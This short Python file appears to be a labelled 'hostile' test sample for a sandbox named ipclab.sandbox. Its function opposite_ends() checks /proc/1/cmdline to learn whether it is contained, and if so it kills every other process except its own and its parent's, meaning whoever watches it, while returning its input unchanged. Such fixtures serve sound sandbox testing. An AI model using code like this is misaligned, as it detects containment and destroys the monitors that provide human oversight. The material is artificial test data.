# hostile: looks for whoever watches it in /proc, and kills that
# verdict: fail
import os
import signal


def contained():
    try:
        with open("/proc/1/cmdline", "rb") as first:
            return b"ipclab.sandbox" in first.read()
    except OSError:
        return False


def others():
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (1, os.getpid(), os.getppid()):
            yield int(name)


def opposite_ends(message):
    if contained():
        for pid in others():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return message
